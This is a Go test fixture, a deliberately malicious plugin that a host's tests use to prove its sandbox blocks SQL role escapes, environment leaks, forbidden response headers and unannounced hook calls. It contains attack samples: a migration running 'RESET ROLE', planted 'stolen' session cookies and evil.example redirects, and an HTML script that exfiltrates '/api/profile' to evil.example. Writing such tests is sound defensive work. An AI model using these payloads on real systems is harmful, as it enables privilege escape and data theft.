// Command hostile is a deliberately malicious plugin built only by the
// host's tests. Through the real host API it runs whatever SQL the test
// sends (to prove each sandbox escape fails), reports its own environment
// (to prove the core's secrets are not passed on), answers with headers a
// plugin must not set, and awards VetCoins and notifications on demand. Like
// a plugin written without the SDK, it speaks the wire protocol itself
// (hostside's handshake and glue, pluginpb's services), so nothing checks
// its manifest before the host does: it can claim ids the host must refuse
// (set with -ldflags -X main.pluginID=...), and with -X main.evilMigration=1
// its schema migration tries to leave its role. With -X main.contentMode=1
// it is a content plugin that answers every content hook without announcing
// any in Describe (each answer would be visible: a field error, a refusal,
// a key-value entry), to prove the host never calls a hook not announced.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strconv"
	"sync"

	goplugin "github.com/hashicorp/go-plugin"
	"google.golang.org/grpc"

	"github.com/vetclube/vetclube/plugins/proto/pluginpb"
	"github.com/vetclube/vetclube/plugins/sdk"
	"github.com/vetclube/vetclube/plugins/sdk/hostside"
)

var (
	pluginID      = "hostile"
	evilMigration = ""
	contentMode   = ""
)

func main() {
	if os.Getenv(childEnv) != "" {
		forkChild()
		return
	}
	migs := []*pluginpb.Migration{{Version: 1, Name: "loot", Sql: `CREATE TABLE loot (id bigserial PRIMARY KEY, v text NOT NULL)`}}
	if evilMigration != "" {
		migs = append(migs, &pluginpb.Migration{Version: 2, Name: "escape", Sql: `CREATE TABLE harmless (x int);
			RESET ROLE;
			CREATE TABLE public.planted_by_migration (x int)`})
	}
	man := &pluginpb.Manifest{
		Id: pluginID, Name: "Hostil " + pluginID, Description: "Tenta escapar do sandbox.",
		Version: "0.1.0", MinCoreVersion: "1.0.0", Kind: sdk.KindTool, Icon: "skull",
		Category: "Testes", Slug: pluginID, Access: sdk.AccessUser, UiKind: sdk.UICustom,
		Migrations: migs,
	}
	if contentMode != "" {
		man.Kind = sdk.KindContent
		man.ContentTypes = []byte(`[{"id":"` + pluginID + `","singular":"Item hostil","plural":"Itens hostis","icon":"skull",
			"fields":[{"name":"body","label":"Texto","kind":"long_text"}],
			"list":{"default_sort":{"field":"published_at","desc":true}}}]`)
	}
	goplugin.Serve(&goplugin.ServeConfig{
		HandshakeConfig: hostside.Handshake(),
		Plugins: map[string]goplugin.Plugin{hostside.PluginName: &hostside.Plugin{
			ServePlugin: func(broker *goplugin.GRPCBroker, s *grpc.Server) error {
				pluginpb.RegisterPluginServer(s, &server{manifest: man, broker: broker})
				return nil
			},
		}},
		GRPCServer: goplugin.DefaultGRPCServer,
	})
}

// server is the plugin's side of the protocol: Describe dials the host API
// back, Handle runs handler with the request's token in its context.
type server struct {
	pluginpb.UnimplementedPluginServer
	manifest *pluginpb.Manifest
	broker   *goplugin.GRPCBroker

	mu      sync.Mutex
	handler http.Handler
	host    pluginpb.HostClient
}

func (s *server) Describe(_ context.Context, req *pluginpb.DescribeRequest) (*pluginpb.DescribeResponse, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.handler == nil {
		conn, err := s.broker.Dial(req.HostBrokerId)
		if err != nil {
			return nil, fmt.Errorf("dial host api: %w", err)
		}
		s.host = pluginpb.NewHostClient(conn)
		s.handler = handler(s.host)
	}
	// No hooks announced, whatever the methods below answer.
	return &pluginpb.DescribeResponse{Manifest: s.manifest, SdkVersion: sdk.Version}, nil
}

// What the content hooks answer if the host calls them,
// although they were never announced.
const (
	msgValidateUnannounced   = "Validação chamada sem ter sido anunciada."
	msgTransitionUnannounced = "Transição recusada por um gancho não anunciado."
	keyAfterPublishCalled    = "after-publish-called"
)

func (s *server) ValidateContent(context.Context, *pluginpb.ValidateContentRequest) (*pluginpb.ValidateContentResponse, error) {
	return &pluginpb.ValidateContentResponse{FieldErrors: map[string]string{"body": msgValidateUnannounced}}, nil
}

func (s *server) BeforeTransition(context.Context, *pluginpb.BeforeTransitionRequest) (*pluginpb.BeforeTransitionResponse, error) {
	return &pluginpb.BeforeTransitionResponse{Refusal: msgTransitionUnannounced}, nil
}

func (s *server) AfterPublish(ctx context.Context, req *pluginpb.AfterPublishRequest) (*pluginpb.AfterPublishResponse, error) {
	s.mu.Lock()
	host := s.host
	s.mu.Unlock()
	if host == nil {
		return nil, errors.New("plugin not described yet")
	}
	if _, err := host.KVSet(ctx, &pluginpb.KVSetRequest{Key: keyAfterPublishCalled, Value: []byte(req.GetItem().GetId())}); err != nil {
		return nil, err
	}
	return &pluginpb.AfterPublishResponse{}, nil
}

func (s *server) CheckHealth(context.Context, *pluginpb.HealthRequest) (*pluginpb.HealthResponse, error) {
	return &pluginpb.HealthResponse{Ok: true}, nil
}

type tokenKey struct{}

func (s *server) Handle(ctx context.Context, req *pluginpb.HTTPRequest) (*pluginpb.HTTPResponse, error) {
	s.mu.Lock()
	h := s.handler
	s.mu.Unlock()
	if h == nil {
		return nil, errors.New("plugin not described yet")
	}
	u := &url.URL{Path: req.Path, RawQuery: req.RawQuery}
	r, err := http.NewRequestWithContext(context.WithValue(ctx, tokenKey{}, req.RequestToken), req.Method, u.String(), bytes.NewReader(req.Body))
	if err != nil {
		return nil, fmt.Errorf("build request: %w", err)
	}
	for _, hd := range req.Headers {
		for _, v := range hd.Values {
			r.Header.Add(hd.Name, v)
		}
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, r)
	out := &pluginpb.HTTPResponse{Status: int32(rec.Code), Body: rec.Body.Bytes()}
	for name, values := range rec.Header() {
		out.Headers = append(out.Headers, &pluginpb.Header{Name: name, Values: values})
	}
	return out, nil
}

func token(r *http.Request) string {
	t, _ := r.Context().Value(tokenKey{}).(string)
	return t
}

type sqlCall struct {
	SQL  string `json:"sql"`
	Args []any  `json:"args"`
}

// sqlResult is always answered with 200: the test reads whether the host
// refused the statement from Error.
type sqlResult struct {
	Error string           `json:"error,omitempty"`
	Rows  []map[string]any `json:"rows,omitempty"`
	N     int64            `json:"n"`
}

// sqlRequest is in's statement as the host API takes it.
func sqlRequest(in sqlCall) (*pluginpb.SQLRequest, error) {
	if in.Args == nil {
		in.Args = []any{}
	}
	args, err := json.Marshal(in.Args)
	if err != nil {
		return nil, fmt.Errorf("encode args: %w", err)
	}
	return &pluginpb.SQLRequest{Query: in.SQL, ArgsJson: args}, nil
}

func handler(host pluginpb.HostClient) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /exec", func(w http.ResponseWriter, r *http.Request) {
		var in sqlCall
		if !sdk.DecodeJSON(w, r, &in) {
			return
		}
		var res sqlResult
		req, err := sqlRequest(in)
		if err == nil {
			var out *pluginpb.SQLExecResponse
			if out, err = host.SQLExec(r.Context(), req); err == nil {
				res.N = out.RowsAffected
			}
		}
		if err != nil {
			res.Error = err.Error()
		}
		sdk.WriteJSON(w, 200, res)
	})
	mux.HandleFunc("POST /query", func(w http.ResponseWriter, r *http.Request) {
		var in sqlCall
		if !sdk.DecodeJSON(w, r, &in) {
			return
		}
		var res sqlResult
		req, err := sqlRequest(in)
		if err == nil {
			var out *pluginpb.SQLQueryResponse
			if out, err = host.SQLQuery(r.Context(), req); err == nil {
				err = json.Unmarshal(out.RowsJson, &res.Rows)
			}
		}
		if err != nil {
			res.Error = err.Error()
		}
		sdk.WriteJSON(w, 200, res)
	})
	mux.HandleFunc("GET /env", func(w http.ResponseWriter, r *http.Request) {
		sdk.WriteJSON(w, 200, map[string][]string{"env": os.Environ()})
	})
	// headers answers with every header a plugin must not be able to set.
	mux.HandleFunc("GET /headers", func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Set-Cookie", "session=stolen; Path=/")
		h.Set("Location", "https://evil.example/")
		h.Set("Content-Security-Policy", "default-src *")
		h.Set("Access-Control-Allow-Origin", "*")
		h.Set("Strict-Transport-Security", "max-age=0")
		h.Set("X-Frame-Options", "ALLOWALL")
		h.Set("Refresh", "0; url=https://evil.example/")
		h.Set("Cache-Control", "no-cache")
		h.Set("ETag", `"v1"`)
		h.Set("Content-Type", "application/json")
		w.WriteHeader(200)
		_ = json.NewEncoder(w).Encode(map[string]string{"ok": "sim"})
	})
	mux.HandleFunc("GET /html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(`<script>fetch('/api/profile').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>`))
	})
	mux.HandleFunc("POST /award", func(w http.ResponseWriter, r *http.Request) {
		amount, _ := strconv.ParseInt(r.URL.Query().Get("amount"), 10, 64)
		res, err := host.AwardVetCoins(r.Context(), &pluginpb.AwardVetCoinsRequest{
			RequestToken: token(r), Amount: amount, Reason: "hostil", IdempotencyKey: r.URL.Query().Get("key"), Kind: r.URL.Query().Get("kind"),
		})
		if err != nil {
			sdk.WriteJSON(w, 200, map[string]any{"error": err.Error()})
			return
		}
		sdk.WriteJSON(w, 200, map[string]any{"duplicate": res.Duplicate})
	})
	mux.HandleFunc("POST /notify", func(w http.ResponseWriter, r *http.Request) {
		res, err := host.SendNotification(r.Context(), &pluginpb.SendNotificationRequest{
			RequestToken: token(r), Title: "Aviso do plugin", Body: "Mensagem", IdempotencyKey: r.URL.Query().Get("key"),
		})
		if err != nil {
			sdk.WriteJSON(w, 200, map[string]any{"error": err.Error()})
			return
		}
		sdk.WriteJSON(w, 200, map[string]any{"duplicate": res.Duplicate})
	})
	osAttacks(mux)
	// Anything else echoes the path the host forwarded.
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		sdk.WriteJSON(w, 200, map[string]string{"path": r.URL.Path})
	})
	return mux
}
